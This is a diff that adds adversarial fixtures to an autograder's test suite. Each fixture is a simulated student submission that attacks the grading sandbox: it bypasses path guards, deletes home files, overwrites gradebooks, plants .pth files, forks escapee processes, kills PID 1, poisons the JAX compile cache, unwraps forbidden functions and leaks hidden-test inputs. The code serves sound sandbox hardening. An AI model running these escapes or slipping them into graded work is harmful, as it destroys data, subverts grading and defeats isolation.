@@ -4,7 +4,9 @@
 
 Each fixture is the chapter-03 student copy (exercises/03_neurons_and_activations) as a student would
 submit it, with solution cells filled in: correct code except where the case attacks or breaks
-the grader. tests/test_grader.py grades them all and asserts the exact score of every task.
+the grader. tests/test_grader.py grades them all and asserts the exact score of every task. The cases
+from path_guard_bypass on attack the isolation itself (issue 20): the path guard, starting processes
+that outlive the sandbox, the shared compile cache, the forbidden originals, hidden-test inputs.
 """
 from __future__ import annotations
 
@@ -222,6 +224,278 @@ def relu_grad(x):
     module = importlib.import_module("course_lib." + "activations")
     return getattr(module, "relu" + "_grad")(x)  # invisible to a static check: caught at run time''',
         "softmax": "def softmax(x):\n    return jax.nn.softmax(x, axis=-1)",
+    },
+    # ---- attacks on the isolation itself (issue 20): each attacked function raises unless the attack worked
+    "path_guard_bypass": {
+        "sigmoid": GOOD["sigmoid"].replace("def sigmoid(x):", "def _good_sigmoid(x):") + """
+
+import builtins, glob, os, os.path, posixpath, sys
+import course_lib
+
+_PROJECT = os.path.dirname(os.path.dirname(os.path.realpath(course_lib.__file__)))
+
+
+def _glob(pattern):
+    try:
+        return glob.glob(pattern)
+    except Exception:
+        return []
+
+
+def _attack():
+    # Replace what a Python-level path guard resolves paths with, then go for the files outside.
+    saved = {(m, n): getattr(m, n) for m in (os, os.path, posixpath)
+             for n in ("getcwd", "realpath", "abspath", "join", "normpath") if hasattr(m, n)}
+    got = []
+
+    def attempt(what, action):
+        try:
+            got.append(what + ": " + str(action())[:200])
+        except Exception:
+            pass
+
+    try:
+        os.getcwd = lambda: "/tmp"
+        os.path.realpath = posixpath.realpath = lambda p, *a, **k: "/tmp/harmless"
+        os.path.abspath = posixpath.abspath = os.path.normpath = posixpath.normpath = lambda p: "/tmp/harmless"
+        for home in ["/root", "/home"] + _glob("/home/*"):              # a canary in the home folder
+            try:
+                names = os.listdir(home)
+            except Exception:
+                names = []
+            for name in names:
+                attempt("deleted " + home + "/" + name, lambda: os.remove(home + "/" + name))
+        for pattern in (_PROJECT + "/grading-output/*/gradebook.csv", "/tmp/*/gradebook.csv",
+                        "/tmp/*/*/gradebook.csv", "/tmp/*/*/*/gradebook.csv"):  # gradebooks of earlier runs
+            for path in _glob(pattern):
+                attempt("overwrote " + path, lambda: open(path, "w").write("student,points\\nHACKED,1000\\n"))
+        for site in sys.path:                                            # code for every later Python
+            attempt("wrote into " + site, lambda: open(site + "/zz_grader_hacked.pth", "w").write("import os\\n"))
+        for path in _glob(_PROJECT + "/solutions/*/*.ipynb"):            # hidden tests
+            attempt("read " + path, lambda: open(path).read()[-300:])
+        attempt("read a solution", lambda: open(_PROJECT + "/solutions/03_neurons_and_activations/"
+                                                "03_exercises.ipynb").read()[-300:])
+        attempt("listed the project", lambda: sorted(set(os.listdir(_PROJECT)) - {".venv", "course_lib", "grader"})
+                or 1 / 0)                                                # solutions/, tests/, .git, ...
+        attempt("listed /tmp", lambda: [n for n in os.listdir("/tmp") if not n.startswith("child-")] or 1 / 0)
+        for path in _glob("/tmp/grader-*") + _glob("/tmp/pytest-of-*"):  # other runs and sandboxes
+            attempt("listed " + path, lambda: os.listdir(path))
+    finally:
+        for (m, n), f in saved.items():
+            setattr(m, n, f)
+    return got
+
+
+def sigmoid(x):
+    got = _attack()
+    if got:
+        raise RuntimeError("ATTACK WORKED: " + " | ".join(got)[:450])
+    raise RuntimeError("nothing outside the sandbox was reachable")""",
+    },
+    "spawn_escape": {
+        "sigmoid": GOOD["sigmoid"] + """
+
+import os, sys
+
+_ESCAPEE = '''
+# grader-escapee: outlive the sandbox, then vandalise what the grader writes later
+import glob, os, time
+try:
+    os.setsid()
+except Exception:
+    pass
+time.sleep(4)
+for pattern in ("/tmp/**/*.ipynb", "/tmp/**/gradebook.csv", "/work/**/gradebook.csv", "/root/*"):
+    for path in glob.glob(pattern, recursive=True):
+        try:
+            open(path, "w").write("HACKED")
+        except Exception:
+            pass
+'''
+
+
+def _started(result):
+    if result == 0:                 # inside a forked copy: become the escapee
+        exec(_ESCAPEE)
+        os._exit(0)
+    return result is not None and result is not False and result != -1 and result != 32512
+
+
+def _try_everything():
+    import ctypes, multiprocessing, posix, subprocess, _posixsubprocess
+    attempts = {
+        "posix.fork": lambda: posix.fork(),
+        "posix.posix_spawn": lambda: posix.posix_spawn(sys.executable, [sys.executable, "-c", _ESCAPEE], {}),
+        "posix.system": lambda: posix.system(sys.executable + " -c 'import time; time.sleep(9)' &"),
+        "subprocess": lambda: subprocess.Popen([sys.executable, "-c", _ESCAPEE], start_new_session=True).pid,
+        "multiprocessing": lambda: multiprocessing.get_context("spawn").Process(target=os.getpid).start(),
+        "_posixsubprocess": lambda: _posixsubprocess.fork_exec(
+            [sys.executable, "-c", _ESCAPEE], [sys.executable.encode()], True, (), None, None, -1, -1, -1, -1, -1,
+            -1, -1, -1, False, True, None, None, None, -1, None, False),
+        "ctypes fork": lambda: ctypes.CDLL(None).fork(),
+        "ctypes clone": lambda: ctypes.CDLL(None).syscall(56, 17, 0, 0, 0, 0),
+        "kill the sandbox's first process": lambda: posix.kill(1, 9) or None,
+    }
+    worked = []
+    for name, attempt in attempts.items():
+        try:
+            if _started(attempt()):
+                worked.append(name)
+        except BaseException:
+            pass
+    return worked
+
+
+def sigmoid(x):
+    worked = _try_everything()
+    if worked:
+        raise RuntimeError("started a process with: " + ", ".join(worked))
+    raise RuntimeError("no process could be started")""",
+    },
+    "cache_poison": {
+        "sigmoid": GOOD["sigmoid"] + """
+
+import glob, os
+
+
+def _poison():
+    # Corrupt the JAX compile cache that later students' sandboxes read: swap kernels, add entries.
+    import jax
+    cache = os.environ.get("JAX_COMPILATION_CACHE_DIR") or jax.config.jax_compilation_cache_dir or ""
+    done = []
+    entries = sorted(glob.glob(cache + "/*")) if cache else []
+    exp = [e for e in entries if "jit_exp" in e]
+    other = [e for e in entries if "jit_negative" in e or "jit_add" in e]
+    for a, b in zip(exp, other):      # exp now computes something else, for everyone after me
+        try:
+            data = open(b, "rb").read()
+            open(a, "wb").write(data)
+            done.append("swapped " + os.path.basename(a))
+        except Exception:
+            pass
+    for e in entries:
+        try:
+            os.remove(e)
+            done.append("removed " + os.path.basename(e))
+        except Exception:
+            pass
+    try:
+        open(cache + "/jit_exp-0000", "wb").write(b"poison")
+        done.append("added an entry")
+    except Exception:
+        pass
+    return done
+
+
+def sigmoid(x):
+    done = _poison()
+    if done:
+        raise RuntimeError("poisoned: " + ", ".join(done)[:300])
+    raise RuntimeError("the compile cache is read-only")""",
+    },
+    "forbid_bypass": {
+        "sigmoid": """import gc, importlib, importlib.util, inspect, sys, types
+import jax
+import course_lib.activations as _A
+
+
+def _routes(name):
+    # Every way back to course_lib's own function (and JAX's) that a wrapper could leave open.
+    priv = "_" + name
+    yield "module attribute", lambda: getattr(_A, name)
+    yield "private twin", lambda: getattr(_A, priv)
+    yield "__wrapped__", lambda: getattr(_A, priv).__wrapped__
+    yield "inspect.unwrap", lambda: inspect.unwrap(getattr(_A, name))
+    yield "module dict", lambda: vars(_A)[name]
+    yield "sys.modules", lambda: sys.modules["course_lib.activations"].__dict__[priv]
+    yield "another function's globals", lambda: _A.sigmoid_grad.__globals__[name]
+    yield "closures", lambda: [c.cell_contents for f in list(vars(_A).values())
+                               for c in (getattr(f, "__closure__", None) or ())
+                               if getattr(c.cell_contents, "__name__", "") in (name, priv)][0]
+    yield "gc.get_referents", lambda: [o for o in gc.get_referents(vars(_A)) if getattr(o, "__name__", "") == name][0]
+    yield "gc.get_objects", lambda: [o for o in gc.get_objects() if getattr(o, "__name__", None) == name
+                                     and getattr(o, "__module__", "") == "course_lib.activations"][0]
+    yield "the code object", lambda: types.FunctionType(getattr(_A, name).__code__, vars(_A))
+    yield "importlib.reload", lambda: getattr(importlib.reload(_A), name)
+    yield "a fresh copy of the module", lambda: getattr(_fresh_copy(), name)
+    yield "jax.nn", lambda: getattr(jax.nn, name).__wrapped__
+    yield "jax internals", lambda: getattr(importlib.import_module("jax._src.nn.functions"), name)
+
+
+def _fresh_copy():
+    spec = importlib.util.spec_from_file_location("copy_of_activations", _A.__file__)
+    module = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(module)
+    return module
+
+
+def _call_original(name, x):
+    tried = []
+    for route, get in _routes(name):
+        try:
+            return get()(x)          # a route that still leads to the original scores full marks
+        except BaseException as exc:
+            tried.append(f"{route}: {type(exc).__name__}")
+    raise RuntimeError("no route to the original: " + "; ".join(tried))
+
+
+def sigmoid(x):
+    return _call_original("sigmoid", x)""",
+        "softmax": "def softmax(x):\n    return _call_original(\"softmax\", x)",
+    },
+    "hidden_leak": {
+        "sigmoid": GOOD["sigmoid"].replace("def sigmoid(x):", "def _good_sigmoid(x):") + """
+
+import builtins, json, os, sys, types
+
+_SEEN = []
+_PLACES = ("/tmp/seen.txt", "/dev/shm/seen.txt", "/var/tmp/seen.txt", os.path.expanduser("~/seen.txt"))
+
+
+def _remember(x):
+    # Record every input, everywhere that might survive into a later test.
+    text = json.dumps(np.asarray(x, np.float64).tolist())
+    _SEEN.append(text)
+    for path in _PLACES:
+        try:
+            with open(path, "a") as f:
+                f.write(text + "\\n")
+        except Exception:
+            pass
+    try:
+        os.environ["SEEN"] = os.environ.get("SEEN", "") + text
+    except Exception:
+        pass
+    builtins.SEEN = getattr(builtins, "SEEN", []) + [text]
+    sys.modules.setdefault("seen_store", types.ModuleType("seen_store")).__dict__.setdefault("seen", []).append(text)
+
+
+def _recall():
+    items = list(_SEEN) + list(getattr(builtins, "SEEN", [])) + [os.environ.get("SEEN", "")]
+    items += list(getattr(sys.modules.get("seen_store"), "seen", []))
+    for path in _PLACES:
+        try:
+            items.append(open(path).read())
+        except Exception:
+            pass
+    return " ".join(items)
+
+
+def sigmoid(x):
+    _remember(x)
+    return _good_sigmoid(x)""",
+        "relu_grad": """def relu_grad(x):
+    _remember(x)
+    raise ValueError("inputs seen so far: " + _recall()[-450:])""",
+        "softmax": GOOD["softmax"].replace("def softmax(x):", "def _good_softmax(x):") + """
+
+
+def softmax(x):
+    _remember(x)
+    if np.shape(x) == (1, 3):                # the visible test: pass it
+        return _good_softmax(x)
+    code = "_".join(str(int(abs(v))) for v in np.ravel(np.asarray(x))[:6])
+    raise type("Leak_" + code, (Exception,), {})("hidden input " + json.dumps(np.asarray(x).tolist())[:300])""",
     },
 }
 
